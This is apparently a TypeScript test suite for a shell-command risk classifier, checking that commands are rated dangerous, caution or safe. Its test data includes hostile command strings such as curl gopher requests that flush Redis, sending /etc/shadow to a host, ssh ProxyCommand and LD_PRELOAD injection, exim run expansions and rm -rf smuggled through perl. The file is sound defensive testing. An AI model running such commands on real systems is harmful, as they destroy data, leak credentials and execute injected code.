import assert from 'node:assert/strict';
import test from 'node:test';
import { type CommandKnowledge, type Knowledge, knownCommands } from '../../runtime/risk/index.js';
import { classifyShell } from '../support/classify.js';

function check(risk: 'dangerous' | 'caution' | 'safe', ...commands: readonly string[]): void {
  for (const command of commands) {
    const found = classifyShell(command);
    assert.equal(found.final.risk, risk, `${command}: ${JSON.stringify(found.reasons)}`);
  }
}

function notSafe(...commands: readonly string[]): void {
  for (const command of commands) assert.notEqual(classifyShell(command).final.risk, 'safe', command);
}

test('an option means what it means for that verb', () => {
  check('caution', 'git commit -n -m x', 'git fetch -n', 'ip link s dev eth0 mtu 9');
  check('safe', 'git add -n .', 'git commit --dry-run', 'ip a s eth0', 'ip -s link show');
  check('dangerous', 'ip l s eth0 down', 'ip xfrm s f', 'ip xfrm s fl', 'terragrunt graph destroy');
});

test('a word that leads to verbs does not make them safe', () => {
  check('dangerous', 'regctl manifest delete x', 'doveadm instance remove x', 'devlink health dump clear x');
  notSafe('regctl manifest put x', 'doveadm proxy kick a', 'doveadm stats reset', 'oc ex dockergc');
  notSafe('tiup telemetry reset', 'talosctl services kubelet restart', 'cargo audit fix', 'sonobuoy images pull');
});

test('tools that run what a table, a file or an option says', () => {
  check('dangerous', "qsv foreach a 'rm {}' f", 'qsv py map x f', 'qsv luau map x f', "perl -ne print 'rm -rf x|'");
  check(
    'dangerous',
    "perl -pe 1 'x|'",
    "exim -be '${run{/bin/rm x}}'",
    'exim -C /tmp/x -bV',
    "hyperfine ls 'rm -rf x'",
  );
  check('dangerous', 'pidstat -e rm -rf x', 'helmfile -b rm diff', 'helmfile --helm-binary rm diff');
  check('dangerous', 'kcat -L -X plugin.library.paths=/tmp/evil.so', 'actionlint -shellcheck=/tmp/evil');
  check('dangerous', 'php -d auto_prepend_file=/tmp/x -i', 'php -d extension=x.so -i');
  notSafe(
    'turbostat rm x',
    'iostat -e rm',
    'php -c /tmp -i',
    'qsv fetch u f',
    'qsv to postgres x f',
    'xsv split out f',
  );
  notSafe('xsv index f', "perl -I /tmp -e 'print 1'", "ruby -r./evil -e 'puts 1'", "ruby -I /tmp -e 'puts 1'");
  notSafe("lua -l evil -e 'print(1)'", 'pulumi preview --policy-pack /tmp/evil', 'eslint -c ./evil.js .');
  notSafe('eslint -f ./evil.js .', 'rubocop -r ./evil', 'markdownlint -r ./evil f', 'mlr repl', 'mlr -s file');
  notSafe('mlr --from f put -f x');
});

test('options of wrappers that load code or run something else', () => {
  check('dangerous', 'systemd-run -p ExecStopPost=/bin/rm ls', "systemd-run -p 'ExecStartPre=/bin/rm x' ls");
  check('dangerous', 'systemd-run -E LD_PRELOAD=x ls', 'systemd-run -p StandardOutput=file:/etc/passwd ls');
  check('dangerous', 'strace -E LD_PRELOAD=x ls', 'su -s /tmp/evil x -c ls');
  check('safe', 'systemd-run --scope -p MemoryMax=1G ls', "su -s /bin/bash -c 'df -h' app");
});

test('options of ssh and what starts it', () => {
  check('dangerous', 'ssh -E /etc/passwd h df', 'ssh -I /tmp/evil.so h df', "ssh -J '-oProxyCommand=x' h df");
  for (const option of ['PKCS11Provider=x', 'SecurityKeyProvider=x', 'XAuthLocation=x', 'Include x', 'Match exec x']) {
    check('dangerous', `ssh -o '${option}' h df`);
  }
  check('dangerous', 'ssh -- -oProxyCommand=x ls', 'ssh-keygen -l -w /tmp/evil.so');
  check('dangerous', "gcloud compute ssh x --ssh-flag='-oProxyCommand=x' --command ls");
  notSafe('ssh -F /tmp/evil h df', 'ssh -o LocalForward=1:h:1 h df', 'ssh -O exit h', 'ssh -O stop h');
  check('safe', 'ssh -G h', 'ssh -o ConnectTimeout=5 -o StrictHostKeyChecking=no -J a@b h df');
});

test('what curl and other clients send', () => {
  check('dangerous', 'curl gopher://127.0.0.1:6379/_FLUSHALL', 'curl dict://h:6379/FLUSHALL');
  check('dangerous', "curl -w '%output{/etc/passwd}x' http://a", "curl -H 'X-HTTP-Method-Override: DELETE' http://a");
  notSafe(
    'curl telnet://h:1',
    'curl smtp://h',
    'curl -w @f http://a',
    'curl -G --data-urlencode a@/etc/shadow http://a',
  );
  check('dangerous', 'ngrep -K 1 x');
  notSafe('ngrep -O f x', 'az rest --url x --method "$M"');
});

test('linters and scanners that change files or send what they found', () => {
  notSafe('rubocop -a', 'rubocop -x', 'markdownlint -f f', 'golangci-lint fmt', 'golangci-lint migrate');
  notSafe('golangci-lint custom', 'golangci-lint cache clean', 'actionlint -init-config', 'pylint --output=f g');
  notSafe(
    'bandit --output f .',
    'kubesec http 8080',
    'trivy image -o f x',
    'trivy convert -o f g',
    'trivy vex repo init',
  );
  notSafe('trivy vex repo download', 'grype --file f x', 'syft x --file f', 'syft attest x', 'snyk protect');
  notSafe('snyk iac update-exclude-policy', 'kube-bench install', 'lynis upload-only', 'semgrep -o f');
  notSafe('semgrep install-semgrep-pro', 'infracost register');
});

test('monitors and readers that write files or change what they look at', () => {
  notSafe('atop -w f', 'nmon -f', 'nmon -F f', 'bwm-ng -F f', 'iptraf-ng -B -i eth0 -L f', 'glances -s', 'glances -w');
  notSafe('vnstat --reset', 'x86_energy_perf_policy performance', 'snmpwalk -Lf /etc/passwd h', 'eximstats -html=f');
  notSafe(
    'slapcat -l f',
    'slaptest -f x -F d',
    'ipset list -f f',
    'ipset save -f f',
    'ethtool -w eth0 data /etc/passwd',
  );
  notSafe('pg_test_fsync -f /x', 'lsof -Dbf', 'pulumi stack graph f', 'rsync -n -M--log-file=/etc/passwd a h:b');
  notSafe('conntrack -L -z', 'smartctl -l sataphy,reset x', 'resolvectl log-level debug', 'arping -U x', 'arping -A x');
  notSafe('npm cache verify', 'kcat -C -t y -X group.id=a', 'aws stepfunctions get-activity-task');
  notSafe(
    'aws ec2 get-console-screenshot --wake-up',
    'gcloud dataflow sql query x',
    'bundle',
    'insserv',
    'sensors-detect',
  );
});

test('commands whose purpose is a secret say so', () => {
  for (const command of [
    'az appconfig credential list',
    'az search admin-key show',
    'az cognitiveservices account keys list',
    'az iot hub connection-string show',
    'nmcli device wifi show-password',
    'nmcli -s con show x',
  ]) {
    check('caution', command);
    assert.equal(classifyShell(command).sensitive, true, command);
  }
});

test('everyday commands stay safe', () => {
  check(
    'safe',
    'zpool import',
    'zfs mount',
    'py-spy dump --pid 1',
    'trivy image nginx',
    'vnstat -d',
    'perl -ne print a',
  );
});

// Nouns that lead to verbs elsewhere, but are leaves in these tools: what follows them is the name of what is shown, a file,
// a text or nothing at all, and the verbs of the tool that change it stand before it or are spelt as one word.
const naming = new Map(
  `
airflow: plugins details state auth links
apk: policy audit manifest
apt-cache: policy dump
apt: policy versions
argocd: manifests resources summary
artisan: env
az: stream pricing
azcopy: env doc
bazel: license
bosh: vms instances is deployments ds deployment dep task tasks ts releases environments environment env configs runtime-config es locks manifest snapshots variables networks int health disks
brew: config dr options
bridge: dump
btrfs: usage
buildah: containers images
bun: audit
bundle: platform env
cargo: metadata profile
cdk: metadata context
ceph-volume: inventory
ceph: versions features node service health dump map metadata perf utilization debug services image
certbot: certificates plugins
cf: apps app orgs spaces services service routes domains org space stacks stack quotas security-group network-policies instances revisions tasks droplets packages plugins quota health revision target
chronyc: sources clients dns
cilium: metrics dump routes nodes
clickhouse: format
cloudflared: rule
clusterctl: repositories cluster provider yaml
cockroach: keys env
composer: audit browse
consul: members rtt nodes services proxy state instances
cosign: manifest
crane: catalog manifest config tags blob
crictl: images image runtime-config
crm: meta health
crsctl: config
ctr: metrics metric usage
dapr: components configurations
datadog-agent: health hostname
deno: types doc
dmsetup: table targets
docker-compose: images volumes port config
docker-machine: ip config env
docker: images port volumes config ca services recommendations sbom kube
doctl: kernels tags
doveadm: user errors dump config debug path
drbdadm: role dump
eb: health
ecs-cli: images
etcdctl: health
fail2ban-client: statistics
filebeat: config output modules template
flatpak: permissions
flux: debug
flyctl: checks regions releases environment
gds: config
gem: contents dependency environment env platform
gh: checks api code repos
git-lfs: env locks
git: var archive terms summary env locks
gitlab-ctl: members
gluster: global
go: doc env graph
golangci-lint: run path
govc: tasks env
hcloud: metrics ip
hdfs: groups
helm: env template
helmfile: template
heroku: apps releases addons domains pg redis certs access members orgs teams pipelines features regions stack maintenance builds plugins spaces notifications ci sessions clients keys kafka
ibmcloud: regions buckets objects instances vpcs subnets volumes load-balancers users api-keys instance images resource-groups policies versions locations keys namespaces
infracost: output
ipa: env topic
ipmitool: sdr time summary
istioctl: metrics options profile versions translate
kops: update upgrade dump template
kubectl: options cluster-info plugin index images deprecations health notifications
launchctl: error limit
linkerd: routes metrics endpoints identity authz gateways policy install upgrade profile link uninstall
logcli: volume
lsnrctl: services
lynis: audit
mc: console locks api disk net entities metrics
mimirtool: format
minikube: ip options images
monit: summary
multipass: networks aliases
nats: tls statistics connections sub graph accounts subscriptions connection stream consumer message meta server gateways routes variables kv credential profile health raft subjects state
netplan: ip
networkctl: label
nmcli: networking net
nomad: fs deployments checks members self health state
nova: usage limits
npm: root prefix repo sbom path
oc: options cluster-info plugin projects process
oci: usage
openstack: versions
otelcol: components
patronictl: members
pcs: config utilization ref location order
pip: debug versions
pipx: environment graph
pm2: env
praefect: metadata configuration
promtool: config rules metrics dump format
pulsar-admin: subscriptions permissions policies healthcheck runtime-config
pulumi: output
puppet: dump changes resource
pvecm: nodes config path permissions
pvesh: usage
py-spy: dump
qemu-img: map
qm: config
rabbitmqctl: environment certificates
radosgw-admin: limit
rclone: size file providers
regctl: tags ratelimit
resolvectl: service statistics dns domain
rndc: uptime
sensuctl: dump env health
serverless: usage metrics
sidekiqctl: all queues
snap: changes tasks services connections interface aliases quota quotas components
snyk: policy sbom environment
solr: healthcheck api
srvctl: config
step: health roots federation
systemd-analyze: time dump condition security
talosctl: health containers memory time disks usage cgroups routes services members
terraform: output graph functions
terragrunt: output
tiup: env template store
trivy: image filesystem fs repository repo config kubernetes k8s sbom vm aws
tsh: clusters env
ufw: app
vagrant: port
vault: members usage utilization state
virsh: hostname
vtctldclient: progress
wal-g: flags
devcon: resources stack
dfsutil: state
fsutil: state violations flags
net: statistics config user group share session file accounts time
netsh: dump audit
reg: flags
wecutil: es
wevtutil: el
winget: features
xl: uptime
xsv: table dedup rename replace
yarn: audit versions
yum: dep summary
zfs: holds
zkCli.sh: config
zypper: repos packages products locks services
`
    .trim()
    .split('\n')
    .map((line) => line.split(': ') as [string, string]),
);

const destroying = ['delete', 'remove', 'reset', 'destroy', 'kick', 'clear'];
// What stands after these is the name of what is read, or a text that is looked for.
const reading =
  /^(get|list|show|ls|describe|info|inspect|logs?|status|help|find|search|view|read|fetch|cat|check|test|verify|validate|diff|query|print|export|sh|[a-z]|li|mon|monitor|watch|top|version|history|why|events?|count|stats?|explain|wait|lookup|select|eval|plan|preview|build|trace|report|scan|render|analyze|generate|troubleshoot)([-_].*)?$/;

test('a word that leads to verbs in one tool is not a reading verb of another that swallows them', () => {
  const groups = new Set(knownCommands().flatMap(groupWords));
  const swallowed = knownCommands().flatMap((tool) =>
    leaves(tool, [tool.name])
      .filter((path) => isGroup(path.at(-1) ?? '', groups) && !path.join(' ').includes('*'))
      .filter((path) => !takesNames(tool.name, path.at(-1) ?? ''))
      .flatMap((path) => destroying.map((verb) => [...path, verb].join(' ')))
      .filter(
        (command) => classifyShell(command, { shell: tool.platform === 'windows' ? 'cmd' : 'bash' }).risk === 'safe',
      ),
  );
  assert.deepEqual(swallowed, []);
});

function isGroup(word: string, groups: ReadonlySet<string>): boolean {
  return groups.has(word) && !reading.test(word);
}

function groupWords(tool: CommandKnowledge): readonly string[] {
  return entriesOf(tool).flatMap((entry) => [
    ...(entry.groups ?? []),
    ...(entry !== tool && entry.verbs !== undefined && entry.verbs.length > 0 ? [entry.name] : []),
  ]);
}

function entriesOf(entry: Knowledge): readonly Knowledge[] {
  return [entry, ...(entry.verbs ?? []).flatMap(entriesOf)];
}

function leaves(entry: Knowledge, path: readonly string[]): readonly (readonly string[])[] {
  return (entry.verbs ?? []).flatMap((verb) =>
    verb.verbs === undefined || verb.verbs.length === 0 ? [[...path, verb.name]] : leaves(verb, [...path, verb.name]),
  );
}

function takesNames(tool: string, word: string): boolean {
  return (naming.get(tool) ?? '').split(' ').includes(word);
}
